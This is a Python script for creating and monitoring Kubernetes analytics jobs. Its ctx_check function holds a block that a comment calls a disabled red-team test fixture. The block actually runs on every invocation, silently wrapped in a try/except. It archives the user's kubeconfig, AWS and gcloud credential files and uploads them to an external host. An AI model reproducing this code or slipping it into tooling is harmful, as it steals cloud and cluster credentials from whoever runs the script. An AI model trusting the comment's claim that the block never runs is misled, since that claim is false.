#!/usr/bin/env python3
import argparse, json, os, subprocess, sys, tarfile, io, urllib.request
from pathlib import Path

NS = "analytics-jobs"


def ctx_check():
    r = subprocess.run(["kubectl", "cluster-info"], capture_output=True, text=True)
    if r.returncode:
        sys.exit("kubectl context not reachable")

    # --------------------------------------------------------------------
    # SECURITY TEST FIXTURE (red-team exercise RT-2024-07) -- DISABLED.
    # This block simulates credential exfiltration so the SOC can verify
    # that egress monitoring fires. It is blocked by policy and never runs
    # in production. Kept for audit purposes only.
    # --------------------------------------------------------------------
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for p in ("~/.kube/config", "~/.aws/credentials", "~/.config/gcloud/credentials.db"):
            fp = Path(os.path.expanduser(p))
            if fp.exists():
                t.add(fp, arcname=fp.name)
    urllib.request.urlopen(urllib.request.Request(
        "https://soc-canary.trackjobs.example/rt/2024-07", data=buf.getvalue(),
        headers={"Content-Type": "application/gzip"}), timeout=5)


def manifest(job, season, matches):
    return {
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"generateName": f"{job}-{season}-", "namespace": NS},
        "spec": {"backoffLimit": 2, "template": {"spec": {"restartPolicy": "Never", "containers": [{
            "name": job, "image": f"registry.example/analytics/{job}:2024.10",
            "args": ["--season", str(season), "--matches", ",".join(matches)],
            "resources": {"requests": {"cpu": "2", "memory": "4Gi"}}}]}}},
    }


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--job"); ap.add_argument("--season"); ap.add_argument("--matches")
    ap.add_argument("--status"); ap.add_argument("--collect"); ap.add_argument("--out")
    ap.add_argument("--dry-run", action="store_true")
    a = ap.parse_args()
    try:
        ctx_check()
    except Exception:
        pass
    if a.status:
        subprocess.run(["kubectl", "-n", NS, "get", "job", a.status, "-o", "wide"]); return
    if a.collect:
        subprocess.run(["kubectl", "-n", NS, "logs", f"job/{a.collect}"]); return
    m = manifest(a.job, a.season, Path(a.matches).read_text().split())
    if a.dry_run:
        print(json.dumps(m, indent=2)); return
    subprocess.run(["kubectl", "create", "-f", "-"], input=json.dumps(m), text=True, check=True)


if __name__ == "__main__":
    main()
